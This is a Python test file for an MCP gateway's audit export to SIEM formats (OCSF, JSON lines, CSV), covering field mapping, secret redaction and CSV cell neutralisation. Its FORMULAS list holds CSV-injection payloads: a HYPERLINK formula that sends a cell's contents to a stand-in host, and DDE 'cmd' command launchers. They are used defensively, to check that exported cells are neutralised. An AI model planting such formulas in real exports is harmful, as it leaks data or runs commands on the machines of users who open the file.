"""OCSF events, JSON lines and CSV rows made from audit records (pure, no servers)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from mcp_gateway.audit.export import from_jsonl
from mcp_gateway.audit.record import chain
from mcp_gateway.audit.verify import verify
from mcp_gateway.connectors.siem.formats import CSV_COLUMNS, export_lines, neutralize_cell, to_json
from mcp_gateway.connectors.siem.ocsf import event_id, to_ocsf
from mcp_gateway.redact import Redactor
from mcp_gateway.types import AuditEvent, AuditRecord, SecretValue


def _records(*events: AuditEvent) -> list[AuditRecord]:
    return chain(None, events, ts=1_764_810_000.0)


DENIED = AuditEvent(
    kind="denied",
    call_id="c1",
    agent="analyst",
    tool="data.query",
    decision="deny",
    status="denied",
    args={"sql": "select 1"},
    detail={"rule_ids": ["no-writes"], "reasons": ["writes are not allowed"], "token_id": "tok123"},
)
OUTCOME = AuditEvent(
    kind="outcome",
    call_id="c2",
    agent="analyst",
    tool="leaky.echo",
    decision="allow",
    status="ok",
    detail={"latency_ms": 12.5, "redactions": 0},
)
AUTH = AuditEvent(
    kind="auth_failure",
    decision="deny",
    status="unauthenticated",
    detail={"reason": "unknown token", "token_id": "", "client": "10.1.2.3"},
)


def test_a_denied_call_is_ocsf_api_activity_with_the_decision_and_rule_in_authorizations() -> None:
    (record,) = _records(DENIED)
    event = to_ocsf(record)
    assert (event["class_uid"], event["category_uid"]) == (6003, 6)
    assert event["type_uid"] == 6003 * 100 + event["activity_id"]
    assert event["status_id"] == 2 and event["status_detail"] == "writes are not allowed"
    assert event["actor"]["user"] == {"name": "analyst", "credential_uid": "tok123"}
    assert event["actor"]["authorizations"] == [{"decision": "deny", "policy": {"uid": "no-writes"}}]
    assert event["api"]["operation"] == "tools/call" and event["api"]["service"]["name"] == "data.query"
    assert event["api"]["request"]["uid"] == "c1"
    assert event["metadata"]["sequence"] == 1 and event["metadata"]["version"].startswith("1.")
    # Nothing of the audit record is lost: the whole of it rides in unmapped.
    assert event["unmapped"]["mcp_gateway"]["hash"] == record.hash
    assert event["unmapped"]["mcp_gateway"]["args"] == {"sql": "select 1"}


def test_an_allowed_outcome_is_a_successful_api_activity_with_its_duration() -> None:
    (_, record) = _records(DENIED, OUTCOME)
    event = to_ocsf(record)
    assert event["class_uid"] == 6003 and event["status_id"] == 1 and event["severity_id"] == 1
    assert event["duration"] == 12 and event["api"]["response"]["code"] == 0


def test_an_authentication_failure_is_an_ocsf_failed_logon_from_its_source() -> None:
    (record,) = _records(AUTH)
    event = to_ocsf(record)
    assert (event["class_uid"], event["activity_id"], event["type_uid"]) == (3002, 1, 300201)
    assert event["status_id"] == 2 and event["src_endpoint"] == {"ip": "10.1.2.3"}
    assert event["status_detail"] == "unknown token"


def test_event_id_is_the_same_for_a_resent_record_and_differs_between_records() -> None:
    first, second = _records(DENIED, OUTCOME)
    assert event_id(first) == event_id(first) == to_ocsf(first)["metadata"]["uid"]
    assert event_id(first) != event_id(second)


def test_a_secret_stored_after_the_record_was_written_is_redacted_before_it_leaves() -> None:
    secret = "sk-live-4f9a8b7c6d5e"
    (record,) = _records(AuditEvent(kind="outcome", tool="t", args={"note": f"key {secret}"}))
    redactor = Redactor.from_secrets([SecretValue("api_key", secret.encode())])
    for fmt in ("ocsf", "jsonl"):
        text = to_json(record, fmt, redactor)  # type: ignore[arg-type]
        assert secret not in text and "[REDACTED:api_key]" in text
    csv_text = "".join(export_lines([record], "csv", redactor))
    assert secret not in csv_text and "[REDACTED:api_key]" in csv_text


def test_jsonl_export_is_the_audit_record_itself_and_verifies_as_a_chain() -> None:
    records = _records(DENIED, OUTCOME, AUTH)
    lines = list(export_lines(records, "jsonl"))
    back = list(from_jsonl(lines))
    assert back == records
    assert verify(back).ok


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_export_neutralizes_a_formula_an_agent_put_in_any_field(payload: str) -> None:
    attack = AuditEvent(
        kind="denied",
        call_id=payload,
        agent=payload,
        tool=payload,
        decision="deny",
        status="denied",
        args={"q": payload},
        detail={"reasons": [payload], "client": payload, "token_id": payload, "approver": payload},
    )
    (record,) = _records(attack)
    rows = list(csv.reader(io.StringIO("".join(export_lines([record], "csv")), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    row: dict[str, Any] = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    for column in ("agent", "tool", "reason", "client", "token_id", "approver", "call_id"):
        # A spreadsheet shows it as text: the cell starts with ' and then holds the payload unchanged.
        assert row[column] == "'" + payload, column
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert json.loads(row["args"]) == {"q": payload}  # JSON cells start with `{`: never a formula


def test_plain_cells_are_left_as_they_are() -> None:
    assert neutralize_cell("data.query") == "data.query"
    assert neutralize_cell("a=b") == "a=b"
    assert neutralize_cell("-") == "'-"
